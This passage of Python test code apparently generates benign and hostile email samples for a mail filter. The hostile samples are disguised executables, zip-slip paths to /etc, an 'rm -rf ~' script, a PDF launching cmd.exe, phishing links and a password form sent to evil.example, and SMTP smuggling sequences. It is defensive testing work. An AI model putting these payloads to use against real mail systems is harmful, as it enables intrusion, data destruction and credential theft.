    yield "voice mail and its text", octets(headed(multipart("mixed", MIMEText("from 030 1234567\n"), MIMEAudio(sound(), "wav", name="vm.wav")), "Voice mail"))


def sources():
    for name, content, kind in (("a.c", b"#include <stdio.h>\nint main(void) { return 0; }\n", "text/x-csrc"), ("a.py", b"import os\nprint(os.name)\n", "text/x-python"),
                                ("tool.py", b"#!/usr/bin/env python3\nimport os\nprint(os.name)\n", "text/x-python"), ("query.sql", b"select 1;\n", OCTETS),
                                ("0001-fix.patch", PATCH.encode(), "text/x-patch"), ("fix.diff", PATCH.encode(), "text/plain"), ("Main.java", b"class Main {}\n", "text/x-java"),
                                ("main.tex", b"\\documentclass{article}\\begin{document}x\\end{document}\n", "text/x-tex"), ("notes.md", b"# Notes\n\n`a.exe`\n", "text/markdown"),
                                ("conf.ini", b"[a]\nb=1\n", "text/plain"), ("page.html", b"<!DOCTYPE html><html><script>var a = 1;</script>hello</html>", "text/html"),
                                ("style.css", b"a { color: red }\n", "text/css"), ("nginx.conf", b"server { listen 80; }\n", OCTETS), ("trace.txt", b"at a.exe+0x10\n" * 50, "text/plain")):
        yield name, octets(attached(content, kind, name))
    yield "a patch as the text", octets(written(PATCH.split("\n\n", 1)[1], subject="[PATCH v2 1/3] fix: a.exe is no name", X_Mailer="git-send-email 2.39.5"))
    yield "a patch, attached by git", octets(headed(multipart("mixed", MIMEText(PATCH.split("---\n")[0]), part(PATCH.encode(), "text/x-patch", "0001-a.patch", "inline"))))
    yield "a program, told of", octets(written("Run setup.exe from \\\\server\\share, or C:\\a\\b.bat; see config.js, main.py and README.md.\n"))
    yield "a short text", octets(written("ok\n"))
    yield "nothing at all", octets(written("\n", subject="call me"))
    yield "a dot between CRLFs", octets(written("a\n\n. \n..\nb\n"))
    yield "a line that is long", octets(written("word " * 300 + "\n", "plain", "us-ascii"))


MAKERS = (newsletters, machines, bounces, documents, signed, calendars, forwarded, lists, languages, media, sources)


def good():
    for maker in MAKERS:
        for name, message in maker():
            yield f"{maker.__name__}: {name}", message


# ---- bad mail ----

SCRIPT = b"WScript.Echo(1)\r\n"
HTA = b"<html><hta:application id=a><script>1</script></html>"


def folder_of(content, *names):
    return att.zipped([(name, content) for name in names])


def programs(tmp):
    """Each with a program, or a name that makes it run. tmp: a folder, for what is made with bsdtar."""
    inner = folder_of(att.PE, "setup.exe")
    for name, (content, kind, filename) in {
        "exe": (att.PE, OCTETS, "setup.exe"),
        "exe called pdf": (att.PE, "application/pdf", "invoice.pdf"),
        "exe called jpg": (att.PE, "image/jpeg", "photo.jpg"),
        "exe in a zip": (inner, "application/zip", "invoice.zip"),
        "exe in a zip in a zip": (folder_of(inner, "a.zip"), "application/zip", "b.zip"),
        "exe called txt in a zip": (folder_of(att.PE, "readme.txt"), "application/zip", "a.zip"),
        "exe in a zip called docx": (inner, WORD, "letter.docx"),
        "exe in a tar.gz": (att.tarred([("a/b.exe", att.PE)], "w:gz"), "application/gzip", "a.tgz"),
        "exe in an iso": (att.by_bsdtar(tmp / "iso", "iso9660", [("a.exe", att.PE)]), OCTETS, "invoice.iso"),
        "exe in a 7z": (att.by_bsdtar(tmp / "7z", "7zip", [("a.exe", att.PE)]), "application/x-7z-compressed", "invoice.7z"),
        "exe in a docx": (att.docx(("word/embeddings/oleObject1.bin", att.PE)), WORD, "letter.docx"),
        "js": (SCRIPT, "text/plain", "invoice.js"),
        "js in a zip": (folder_of(SCRIPT, "invoice.js"), "application/zip", "invoice.zip"),
        "vbs": (b"MsgBox 1\r\n", OCTETS, "a.vbs"),
        "hta": (HTA, OCTETS, "a.hta"),
        "hta called html": (HTA, "text/html", "a.html"),
        "shortcut": (att.SHORTCUT, OCTETS, "a.lnk"),
        "shortcut called doc": (att.SHORTCUT, "application/msword", "a.doc"),
        "jar": (folder_of(att.JAVA, "A.class"), "application/java-archive", "a.jar"),
        "ELF": (att.ELF, OCTETS, "a"),
        "two extensions": (SCRIPT, OCTETS, "invoice.pdf.js"),
        "many blanks": (att.PE, OCTETS, "invoice.pdf" + " " * 60 + ".exe"),
    }.items():
        yield name, octets(attached(content, kind, filename))
    yield "exe in a zip in a message that is forwarded", octets(headed(multipart("mixed", MIMEText("look\n"), MIMEMessage(attached(inner, "application/zip", "a.zip")))))
    content = base64.encodebytes(att.PE).replace(b"\n", b"\r\n")
    octets_head, last = ["Content-Type: application/octet-stream; name=a.exe"], b"--=_a--\r\n"
    for name, head, body in (
        ("base64 with other octets in it", ["Content-Type: application/pdf; name=a.pdf"], content.replace(b"A", b"!A-", 20) + last),
        ("a type for each reader", ["Content-Type: text/plain", *octets_head], content + last),
        ("a name for each reader", ["Content-Type: text/plain; name=a.txt", "Content-Disposition: attachment; filename=a.exe"], content + last),
        ("no boundary at the end", octets_head, content),
    ):
        first = b"--=_a\r\nContent-Type: text/plain\r\n\r\nhello\r\n--=_a\r\n" + "\r\n".join([*head, "Content-Transfer-Encoding: base64"]).encode()
        yield name, raw(["MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="=_a"'], first + b"\r\n\r\n" + body)


def slips():
    yield "a zip", octets(attached(folder_of(b"x", "../../etc/cron.d/x"), "application/zip", "a.zip"))
    yield "a zip of Windows", octets(attached(folder_of(b"x", "..\\..\\start.txt"), "application/zip", "a.zip"))
    yield "a link", octets(attached(att.tarred([("a", b"x")], "w:gz", [("b", "../../etc/passwd")]), "application/gzip", "a.tgz"))


def hidden_names():
    for name, value in (("shown from right to left", "*=utf-8''photo_%E2%80%AEgpj.txt"), ("a NUL", "*=utf-8''a.txt%00.htm"), ("a bell", "*=utf-8''a%07.txt"),
                        ("a NUL in an encoded word", f'="=?utf-8?B?{base64.b64encode(b"a.txt" + bytes(1) + b".htm").decode()}?="')):
        yield name, raw(["MIME-Version: 1.0", "Content-Type: text/plain", "Content-Disposition: attachment; filename" + value], b"hello\r\n")


def weighed():
    """What gives points: the rule, what it is, the message."""
    for rule, name, content, kind, filename in (
        ("file-bomb", "forty megabytes of zeros", att.zipped([("a", bytes(40 << 20))]), "application/zip", "a.zip"),
        ("file-bomb", "an archive in an archive, and so on", att.nested(8), "application/zip", "a.zip"),
        ("file-macro", "docm", att.docx(("word/vbaProject.bin", VBA)), "application/vnd.ms-word.document.macroEnabled.12", "a.docm"),
        ("file-macro", "old Word", VBA, "application/msword", "a.doc"),
        ("file-macro", "old Excel", att.compound([("Workbook", 2, att.workbook((0x809, bytes(16)), (0x85, bytes(5) + b"\1" + b"\6Macro1"), (10, b"")))]),
         "application/vnd.ms-excel", "a.xls"),
        ("file-script", "shell", b"#!/bin/sh\nrm -rf ~\n", OCTETS, "a.sh"),
        ("file-embedded", "RTF with an object", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", "application/rtf", "a.rtf"),
        ("file-external", "a template from elsewhere", att.docx(("word/_rels/settings.xml.rels", att.relation("attachedTemplate", "http://x.example/a.dotm"))), WORD, "a.docx"),
        ("file-active", "PDF with JavaScript", att.pdf(b"<</Type /Catalog /OpenAction 2 0 R>>", b"<</S /JavaScript /JS (app.alert\\(1\\))>>"), "application/pdf", "a.pdf"),
        ("file-active", "PDF that starts a program", att.pdf(CATALOG, b"<</S /L#61unch /F (cmd.exe)>>"), "application/pdf", "a.pdf"),
        ("file-locked", "a zip with a password", att.encrypted_zip(), "application/zip", "a.zip"),
        ("file-mismatch", "HTML called PDF", b"<html><script>1</script></html>", "application/pdf", "a.pdf"),
        ("file-unread", "half a zip", att.zipped([("a", bytes(range(256)) * 40), ("b", b"x")])[:150], "application/zip", "a.zip"),
    ):
        yield rule, name, octets(attached(content, kind, filename))
    for rule, name, page in (
        ("link-disguised", "a number for an address", '<a href="http://3232235777/a">here</a>'),
        ("link-disguised", "an address in hexadecimal", '<a href="http://0xc0.0xa8.1.1/a">here</a>'),
        ("link-disguised", "two scripts in a name", '<a href="https://p\u0430ypal.example/">here</a>'),
        ("link-disguised", "the same in A-labels", '<a href="https://xn--pypal-4ve.example/">here</a>'),
        ("link-disguised", "a host in percents", '<a href="http://%65vil.example/">here</a>'),
        ("link-userinfo", "a name before the host", '<a href="https://www.bank.example@evil.example/">here</a>'),
        ("link-ip", "an address", '<a href="http://192.0.2.17/login">here</a>'),
        ("link-shown-other", "another one is shown", '<a href="https://evil.example/">https://www.bank.example/</a>'),
        ("link-program", "a search", '<a href="search-ms:query=a&crumb=location:x">here</a>'),
        ("link-short", "a short one", '<a href="https://bit.ly/abc">here</a>'),
        ("link-form", "a form", '<form action="https://evil.example/"><input name=password></form>'),
        ("link-odd", "backslashes", '<a href="https:\\\\evil.example\\a">here</a>'),
    ):
        yield rule, name, octets(written(f"<html><body>{page}</body></html>", "html"))
    yield "from-shows-other", "our address", octets(written("Are you in the office?\n", author='"boss@example.org" <x@example.net>'))
    yield "from-shows-other", "our address, encoded", octets(written("hello\n", author="=?utf-8?B?Ym9zc0BleGFtcGxlLm9yZw==?= <x@example.net>"))
    yield "from-ours", "our address itself", octets(written("hello\n", author="Boss <boss@example.org>"))
    yield "from-twice", "two authors", b"From: Bank <a@example.net>\r\n" + octets(written("hello\n"))
    yield "from-malformed", "no author", octets(written("hello\n", From=None))
    yield "date-none", "no date", octets(written("hello\n", Date=None))
    yield "date-far-off", "of 1999", octets(written("hello\n", Date="Fri, 31 Dec 1999 23:59:59 +0000"))
    yield "date-far-off", "of next week", octets(written("hello\n", Date=email.utils.formatdate(time.time() + 7 * 86400)))
    yield "header-control", "control characters", raw(["X-A: a\x01b"], b"hello\r\n")
    yield "header-eight-bit", "octets that are not ASCII", raw(["X-A: Grüße"], b"hello\r\n")
    yield "mime-two-ways", "two types", raw(["MIME-Version: 1.0", "Content-Type: text/plain", "Content-Type: text/html"], b"<b>hello\r\n")
    yield "mime-junk", "octets that are none of base64", raw(["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], b"aGVs!bG8=\r\n")
    yield "mime-sloppy", "no end", raw(["Content-Type: multipart/mixed; boundary=b"], b"--b\r\n\r\nhello\r\n")
    yield "mime-limit", "a thousand parts", raw(["Content-Type: multipart/mixed; boundary=b"], b"--b\r\n\r\nx\r\n" * 3000 + b"--b--\r\n")


def fatal():
    """What is refused for the message itself: the rule, what it is, the message."""
    received = f"Received: from a.example (a.example [192.0.2.9]) by mx.example.org with ESMTP id 1; {email.utils.formatdate()}\r\n"
    yield "loop", "eight times here", (received * 8).encode() + octets(written("hello\n"))
    for name, end in (("line feeds", b"\n.\n"), ("line feed and CRLF", b"\n.\r\n"), ("CRLF and line feed", b"\r\n.\n"), ("carriage returns", b"\r.\r")):
        yield "smuggling", name, raw([], b"hello" + end + b"MAIL FROM:<boss@example.org>\r\n")


def refused(tmp):
    """The rule that refuses it, what it is, and the message."""
    for rule, mails in (("file-program", programs(tmp)), ("file-slip", slips()), ("name-hidden", hidden_names())):
        for name, message in mails:
            yield rule, name, message
    yield from fatal()
